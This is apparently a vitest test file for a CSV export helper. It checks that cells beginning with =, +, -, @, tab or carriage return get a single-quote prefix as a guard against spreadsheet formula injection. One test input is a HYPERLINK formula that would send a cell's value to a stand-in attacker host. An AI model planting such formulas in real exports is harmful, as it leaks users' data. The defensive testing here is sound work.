import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, csvLine } from '../../src/shared/csv';
import { formatCents } from '../../src/shared/money';
import { parseCsv } from '../support/csv-read';

// Read back by csv-parse, a reader that is not ours: the cells after RFC 4180 unquoting.
// What a spreadsheet would read back from a cell (an empty text is no record at all).
const cellText = (value: Parameters<typeof csvCell>[0]) => parseCsv(`${csvCell(value)}\r\n`)[0]?.[0] ?? '';

describe('csvCell: every text cell of every export is inert in a spreadsheet (OWASP CSV injection)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `'=HYPERLINK("http://evil.example/?"&A1,"Click")`],
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1+1', "'-1+1"],
    ['-A1', "'-A1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
  ])('%j is prefixed with a single quote', (value, shown) => {
    expect(cellText(value)).toBe(shown);
  });

  it('leaves ordinary text, ids and currency codes as they are', () => {
    for (const v of ['txn_1', 'USD', 'Coffee shop', 'a=b', "it's"]) expect(cellText(v)).toBe(v);
  });

  it('keeps numbers numeric: cents as numbers, formatted amounts as text', () => {
    expect(csvCell(-123456)).toBe('-123456');
    expect(csvCell(0)).toBe('0');
    expect(cellText(formatCents(-1250))).toBe('-12.50');
    expect(cellText(formatCents(-123456))).toBe('-1,234.56');
    expect(cellText('-42')).toBe('-42');
    expect(() => csvCell(Number.NaN)).toThrow(RangeError);
  });

  it('an empty or missing value is an empty cell', () => {
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(null)).toBe('');
    expect(csvCell('')).toBe('');
  });

  it('any text parses back to itself, or to itself behind one quote when it could start a formula', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'grapheme-composite' }), { minLength: 1, maxLength: 8 }), (fields) => {
        const [row] = parseCsv(csvLine(fields));
        expect(row).toHaveLength(fields.length);
        row?.forEach((got, i) => {
          const sent = fields[i] as string;
          expect(got === sent || (got === `'${sent}` && /^[=+\-@\t\r]/.test(sent))).toBe(true);
          expect(/^[=+@\t\r]/.test(got) || (/^-/.test(got) && !/^-[\d,.]+$/.test(got))).toBe(false);
        });
      }),
    );
  });
});
